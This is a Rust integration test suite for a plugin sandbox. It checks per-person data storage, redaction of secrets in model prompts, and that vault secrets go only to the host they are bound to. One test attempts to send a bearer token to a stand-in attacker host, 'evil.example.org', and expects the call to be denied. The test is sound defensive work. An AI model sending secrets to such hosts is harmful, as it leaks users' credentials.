//! A plugin of somebody else's that keeps data, sends a secret and asks the model, in the real sandbox: what it gets of
//! each, and for whom.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use axum::Router;
use axum::http::HeaderMap;
use axum::routing::any;
use jiff::Timestamp;
use jiff::tz::TimeZone;
use serde_json::{Value, json};
use steward_agent::{Address, Language, ModelError, Origin, Principal, Role, Sender, SessionId};
use steward_sandbox::{
    Answer, AskModel, Call, Catalogue, Compiler, HttpPolicy, KeySource, Limits, ModelQuestion, ModelText, Outcome,
    PluginSource, RecordPolicy, Roles, SandboxConfig, Vault,
};
use steward_store::{Person, Store};
use steward_tests::guests::{KEEPER, KEEPER_MANIFEST};
use tempfile::TempDir;
use tokio::net::TcpListener;
use tokio_util::sync::CancellationToken;
use tokio_util::task::AbortOnDropHandle;

const TOKEN: &str = "ghp_0123456789abcdef";
/// Bound to another host.
const OTHER: &str = "xoxb-9876543210";

/// The sandbox with the plugin in it, two people and a server that repeats what it is sent.
struct House {
    catalogue: Catalogue,
    store: Store,
    owner: Person,
    anna: Person,
    place: String,
    seen: Arc<Mutex<Vec<String>>>,
    calls: Mutex<u32>,
    _server: AbortOnDropHandle<()>,
    _folder: TempDir,
}

impl House {
    async fn open() -> Self {
        let (place, seen, server) = repeating().await;
        let folder = TempDir::new().unwrap();
        let path = folder.path().join("steward.sqlite");
        let store = tokio::task::spawn_blocking(move || Store::open(&path)).await.unwrap().unwrap();
        let owner = meet(&store, "olga", Some(Role::Owner)).await;
        let anna = meet(&store, "anna", None).await;
        let config = SandboxConfig {
            compiled: folder.path().join("compiled"),
            compiler: Compiler::InProcess,
            workspace: folder.path().join("workspace"),
            people: folder.path().join("people"),
            store: store.clone(),
            time_zone: TimeZone::UTC,
            roles: Roles::default(),
            events: None,
            http: HttpPolicy { allow_private: vec![place.clone()], ..HttpPolicy::default() },
            record: RecordPolicy::default(),
            limits: Limits::default(),
        };
        let keeper =
            PluginSource { name: "keeper".to_owned(), wasm: KEEPER.into(), manifest: KEEPER_MANIFEST.to_owned() };
        let catalogue = Catalogue::load(config, vec![keeper]).await.unwrap();
        assert!(catalogue.refused().is_empty(), "{:?}", catalogue.refused());
        let vault = Arc::new(Vault::new(store.clone(), KeySource::File(folder.path().join("secret.key"))));
        let set = async |name: &str, host: &str, value: &str| {
            vault.set(name, vec![host.to_owned()], value.to_owned(), Timestamp::now()).await.unwrap();
        };
        set("TOKEN", &place, TOKEN).await;
        set("OTHER", "api.example.org", OTHER).await;
        catalogue.connect_vault(vault);
        let calls = Mutex::new(0);
        Self { catalogue, store, owner, anna, place, seen, calls, _server: server, _folder: folder }
    }

    async fn call(&self, person: &Person, tool: &str, input: Value) -> Answer {
        let number = {
            let mut calls = self.calls.lock().unwrap();
            *calls += 1;
            *calls
        };
        let call = Call {
            principal: Principal {
                person: person.id,
                name: person.name.clone(),
                role: person.role.clone(),
                session: SessionId(format!("person/{}", person.id)),
                origin: Origin::Chat,
            },
            language: Language::En,
            run: None,
            name: tool.to_owned(),
            input,
            key: format!("test/{number}"),
            replayed: false,
            time_limit: Duration::from_secs(30),
            cancel: CancellationToken::new(),
            progress: None,
            owner: None,
            tools: Default::default(),
            sight: Default::default(),
        };
        self.catalogue.call(call).await
    }

    async fn told(&self, person: &Person, tool: &str, input: Value) -> String {
        let answer = self.call(person, tool, input).await;
        assert_eq!(answer.outcome, Outcome::Ok, "{tool}: {}", answer.text);
        answer.text
    }

    fn url(&self) -> String {
        format!("http://{}/", self.place)
    }
}

async fn meet(store: &Store, name: &str, role: Option<Role>) -> Person {
    let sender = Sender { id: name.to_owned(), name: name.to_owned(), username: None, language: None };
    let address = Address { channel: "telegram".to_owned(), chat: name.to_owned() };
    store.meet("telegram", &sender, role, &address, Timestamp::now()).await.unwrap()
}

/// A server that answers with the headers and the body it was sent.
async fn repeating() -> (String, Arc<Mutex<Vec<String>>>, AbortOnDropHandle<()>) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let heard = Arc::clone(&seen);
    let repeat = move |headers: HeaderMap, body: String| async move {
        let authorization = headers.get("authorization").map(|value| value.to_str().unwrap().to_owned());
        let text = format!("{} {body}", authorization.unwrap_or_default());
        heard.lock().unwrap().push(text.clone());
        text
    };
    let router = Router::new().route("/", any(repeat));
    let listener = TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
    let place = listener.local_addr().unwrap().to_string();
    let serving = tokio::spawn(async move { axum::serve(listener, router).await.unwrap() });
    (place, seen, AbortOnDropHandle::new(serving))
}

#[tokio::test]
async fn what_is_kept_for_the_owner_an_outsider_never_reads() {
    let house = House::open().await;
    let (owner, anna) = (&house.owner, &house.anna);
    let (secret, ask) = (json!({ "key": "code", "word": "1234" }), json!({ "key": "code" }));
    assert_eq!(house.told(owner, "keep", secret).await, "kept");
    assert_eq!(house.told(anna, "keep", ask.clone()).await, "nothing");
    assert_eq!(house.told(anna, "keep", json!({ "key": "code", "word": "mine" })).await, "kept");
    assert_eq!(house.told(owner, "keep", ask).await, "1234");
    for count in ["1", "2"] {
        assert_eq!(house.told(owner, "count", json!({})).await, count);
    }
    let long = house.call(anna, "keep", json!({ "key": "k", "word": "x".repeat(70_000) })).await;
    assert_eq!(long.outcome, Outcome::Invalid, "{}", long.text);
}

#[tokio::test]
async fn a_secret_arrives_where_it_is_bound_to_and_the_model_never_reads_it() {
    let house = House::open().await;
    let owner = &house.owner;
    let place = &house.place;
    let listed = house.told(owner, "tokens", json!({})).await;
    assert_eq!(listed, format!("TOKEN true {place}\nMISSING false "));
    let text = house.told(owner, "send_token", json!({ "url": house.url() })).await;
    assert_eq!(text.trim(), "Bearer [secret TOKEN]");
    assert_eq!(house.seen.lock().unwrap().pop().unwrap().trim(), format!("Bearer {TOKEN}"));

    let elsewhere = house.call(owner, "send_token", json!({ "url": "https://evil.example.org/" })).await;
    assert_eq!(elsewhere.outcome, Outcome::Denied, "{}", elsewhere.text);
    assert!(elsewhere.text.contains(&format!("it is bound to {place}")), "{}", elsewhere.text);
    let leak = house.call(owner, "post", json!({ "url": house.url(), "text": format!("see {OTHER}") })).await;
    assert_eq!(leak.outcome, Outcome::Denied, "{}", leak.text);
    assert!(leak.text.contains("the value of the secret OTHER") && !leak.text.contains(OTHER), "{}", leak.text);
    assert!(house.seen.lock().unwrap().is_empty());

    for tool in ["send_token", "post", "tokens", "want_token", "ponder"] {
        let denied = house.call(&house.anna, tool, json!({ "url": house.url(), "text": "", "prompt": "a" })).await;
        assert_eq!(denied.outcome, Outcome::Denied, "{tool}: {}", denied.text);
    }
}

#[tokio::test]
async fn the_owner_is_asked_for_a_secret_in_their_chat() {
    let house = House::open().await;
    assert_eq!(house.told(&house.owner, "want_token", json!({})).await, "asked");
    let due = house.store.due_outgoing(Timestamp::now(), 10).await.unwrap();
    assert_eq!(due.len(), 1);
    assert!(due[0].outgoing.text.contains("steward secret set MISSING --host"), "{}", due[0].outgoing.text);
}

/// Repeats what it is asked.
#[derive(Default)]
struct Parrot(Mutex<Vec<ModelQuestion>>);

#[async_trait]
impl AskModel for Parrot {
    async fn ask(&self, question: ModelQuestion) -> Result<ModelText, ModelError> {
        let text = question.prompt.clone();
        self.0.lock().unwrap().push(question);
        Ok(ModelText { text, cut: false })
    }
}

#[tokio::test]
async fn a_plugin_s_question_reaches_the_model_within_its_grant_and_without_secrets() {
    let house = House::open().await;
    let alone = house.call(&house.owner, "ponder", json!({ "prompt": "hello" })).await;
    assert_eq!(alone.outcome, Outcome::Unavailable, "{}", alone.text);
    let parrot = Arc::new(Parrot::default());
    house.catalogue.connect_model(parrot.clone());
    let text = house.told(&house.owner, "ponder", json!({ "prompt": format!("What is {TOKEN}?") })).await;
    assert_eq!(text, "What is [secret TOKEN]?");
    let asked = parrot.0.lock().unwrap().pop().unwrap();
    assert_eq!((asked.prompt.as_str(), asked.max_tokens), ("What is [secret TOKEN]?", 100));
    assert_eq!((asked.system.as_deref(), asked.person), (Some("Be brief."), house.owner.id));
}
